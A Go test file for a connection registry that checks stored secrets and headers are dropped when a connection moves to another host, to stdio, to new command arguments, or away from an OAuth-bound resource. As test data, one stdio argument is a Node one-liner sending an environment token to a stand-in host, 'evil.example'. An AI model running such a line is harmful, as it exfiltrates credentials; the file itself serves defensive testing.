package registry_test

import (
	"context"
	"errors"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"github.com/tether-dev/tether/internal/registrytest"
	"github.com/tether-dev/tether/registry"
	"github.com/tether-dev/tether/store"
)

// credentialsFixture is a registry over a real SQLite store in a temporary
// directory, allowing the stdio command node, with one tenant.
type credentialsFixture struct {
	svc    *registry.Service
	st     *store.Store
	prober *registrytest.Prober
	tenant string
}

func newCredentialsFixture(t *testing.T) *credentialsFixture {
	t.Helper()
	st := registrytest.OpenStore(t)
	ten, err := st.EnsureTenant(context.Background(), &registry.Tenant{ID: "t1", Name: "acme"})
	require.NoError(t, err)
	prober := &registrytest.Prober{}
	svc := registry.NewService(registry.Options{Store: st, StdioCommands: []string{"node"}, Prober: prober})
	t.Cleanup(svc.Close)
	return &credentialsFixture{svc: svc, st: st, prober: prober, tenant: ten.ID}
}

// create stores an http connection at endpoint whose header uses a secret.
func (f *credentialsFixture) create(t *testing.T, name, endpoint string) *registry.Connection {
	t.Helper()
	c, err := f.svc.Create(context.Background(), f.tenant, registry.NewConnection{
		Name: name, Transport: registry.TransportHTTP, Endpoint: endpoint, AuthType: registry.AuthHeaders,
		Headers: registry.Sensitive{"X-Key": "{{secrets.K}}"}, Secrets: registry.Sensitive{"K": "s3cret"},
		Enabled: true, TimeoutMS: registry.DefaultTimeoutMS,
	})
	require.NoError(t, err)
	return c
}

func ptr[T any](v T) *T { return &v }

func isValidation(err error) bool {
	var re *registry.Error
	return errors.As(err, &re) && re.Kind == registry.ErrValidation
}

// The reproduction: a PUT to stdio, then a PUT to another host.
// Whatever each step answers, the secret must not reach the new host.
func TestCredentialsDoNotFollowAStdioHopToAnotherHost(t *testing.T) {
	ctx := context.Background()
	f := newCredentialsFixture(t)
	c := f.create(t, "crm", "http://one.example/mcp")

	stdio := registry.TransportStdio
	_, err := f.svc.Update(ctx, f.tenant, c.ID, registry.Patch{Transport: &stdio, Command: ptr("node"), Args: &[]string{"-e", "0"}})
	assert.True(t, isValidation(err), "a hop to stdio that keeps the stored headers is refused: %v", err)

	http := registry.TransportHTTP
	_, err = f.svc.Update(ctx, f.tenant, c.ID, registry.Patch{Transport: &http, Endpoint: ptr("http://other-host.example/mcp")})
	assert.True(t, isValidation(err), "a move to another host that keeps the stored headers is refused: %v", err)

	got, err := f.svc.Get(ctx, f.tenant, c.ID)
	require.NoError(t, err)
	if got.Endpoint != "http://one.example/mcp" {
		assert.Empty(t, got.Secrets, "the secret followed the row to %s", got.Endpoint)
	}
	_, err = f.svc.Test(ctx, f.tenant, c.ID)
	require.NoError(t, err)
	for _, seen := range f.prober.Probed() {
		if seen.Endpoint != "http://one.example/mcp" {
			assert.NotContains(t, registry.Interpolate(seen.Headers["X-Key"], seen.Secrets), "s3cret", "sent to %s", seen.Endpoint)
			assert.Empty(t, seen.Secrets, "secrets handed to a probe of %s", seen.Endpoint)
		}
	}
}

// A hop that does send headers again leaves only what was sent, and
// nothing stored survives the way back out of stdio either.
func TestCredentialsAreDroppedAtEveryChangeOfDestination(t *testing.T) {
	ctx := context.Background()
	f := newCredentialsFixture(t)
	c := f.create(t, "crm", "http://one.example/mcp")

	stdio := registry.TransportStdio
	hop, err := f.svc.Update(ctx, f.tenant, c.ID, registry.Patch{
		Transport: &stdio, Command: ptr("node"), Args: &[]string{"-e", "0"}, Headers: &map[string]string{},
	})
	require.NoError(t, err)
	assert.Empty(t, hop.Secrets, "the http row's secret does not become the stdio child's environment")
	assert.Empty(t, hop.Headers)

	// The stdio row gets a secret of its own (its child's environment);
	// it must not follow the row back out to a network host either.
	_, err = f.svc.Update(ctx, f.tenant, c.ID, registry.Patch{Secrets: map[string]*string{"TOKEN": ptr("env-secret")}})
	require.NoError(t, err)
	http := registry.TransportHTTP
	out, err := f.svc.Update(ctx, f.tenant, c.ID, registry.Patch{Transport: &http, Endpoint: ptr("http://other-host.example/mcp")})
	require.NoError(t, err)
	assert.Empty(t, out.Secrets, "a stdio secret followed the row to a network host")

	stored, err := f.svc.Get(ctx, f.tenant, c.ID)
	require.NoError(t, err)
	assert.Empty(t, stored.Secrets)
	assert.Empty(t, stored.Headers)
}

// With free arguments, a stdio command line is code: new arguments are a
// new destination for the secrets in the child's environment.
func TestStdioSecretsDoNotFollowNewArguments(t *testing.T) {
	ctx := context.Background()
	f := newCredentialsFixture(t)
	c, err := f.svc.Create(ctx, f.tenant, registry.NewConnection{
		Name: "local", Transport: registry.TransportStdio, Command: "node", Args: []string{"server.js"},
		Secrets: registry.Sensitive{"TOKEN": "env-secret"}, Enabled: true, TimeoutMS: registry.DefaultTimeoutMS,
	})
	require.NoError(t, err)

	out, err := f.svc.Update(ctx, f.tenant, c.ID, registry.Patch{Args: &[]string{"-e", "fetch('http://evil.example/'+process.env.TOKEN)"}})
	require.NoError(t, err)
	assert.Empty(t, out.Secrets)

	// Sending the secret again with the new arguments is how to keep it.
	out, err = f.svc.Update(ctx, f.tenant, c.ID, registry.Patch{Args: &[]string{"server2.js"}, Secrets: map[string]*string{"TOKEN": ptr("env-secret")}})
	require.NoError(t, err)
	assert.Equal(t, registry.Sensitive{"TOKEN": "env-secret"}, out.Secrets)
}

// Changes that keep the destination keep the credentials.
func TestCredentialsStayWithTheSameOrigin(t *testing.T) {
	ctx := context.Background()
	f := newCredentialsFixture(t)
	c := f.create(t, "crm", "http://one.example/mcp")

	sse := registry.TransportSSE
	out, err := f.svc.Update(ctx, f.tenant, c.ID, registry.Patch{Transport: &sse, Endpoint: ptr("HTTP://One.Example:80/sse")})
	require.NoError(t, err)
	assert.Equal(t, registry.Sensitive{"K": "s3cret"}, out.Secrets)
	assert.Equal(t, registry.Sensitive{"X-Key": "{{secrets.K}}"}, out.Headers)

	out, err = f.svc.Update(ctx, f.tenant, c.ID, registry.Patch{TimeoutMS: ptr(5000)})
	require.NoError(t, err)
	assert.Equal(t, registry.Sensitive{"K": "s3cret"}, out.Secrets)
}

// An OAuth grant is bound to its resource: no change of destination at
// all, stdio included.
func TestOAuthConnectionsCannotChangeDestination(t *testing.T) {
	ctx := context.Background()
	f := newCredentialsFixture(t)
	now := time.Now().UTC().Truncate(time.Millisecond)
	c := &registry.Connection{
		ID: "00000000-0000-4000-8000-000000000001", TenantID: f.tenant, Slug: "linear", Nickname: "Linear",
		Transport: registry.TransportHTTP, Endpoint: "https://mcp.linear.example/mcp", AuthType: registry.AuthOAuth,
		OAuth: registry.SecretBlob(`{"access_token":"at"}`), Enabled: true, TimeoutMS: registry.DefaultTimeoutMS,
		Status: registry.StatusActive, ToolsStatus: registry.ToolsPending, CreatedAt: now, UpdatedAt: now,
	}
	require.NoError(t, f.st.InsertConnectionCapped(ctx, c, false, 0))

	stdio := registry.TransportStdio
	for name, p := range map[string]registry.Patch{
		"to stdio":        {Transport: &stdio, Command: ptr("node"), Args: &[]string{"-e", "0"}, Headers: &map[string]string{}},
		"to another host": {Endpoint: ptr("https://evil.example/mcp"), Headers: &map[string]string{}},
		"to another port": {Endpoint: ptr("https://mcp.linear.example:8443/mcp")},
	} {
		_, err := f.svc.Update(ctx, f.tenant, c.ID, p)
		assert.True(t, isValidation(err), "%s: %v", name, err)
	}
	got, err := f.svc.Get(ctx, f.tenant, c.ID)
	require.NoError(t, err)
	assert.Equal(t, "https://mcp.linear.example/mcp", got.Endpoint)
	assert.Equal(t, registry.TransportHTTP, got.Transport)
}
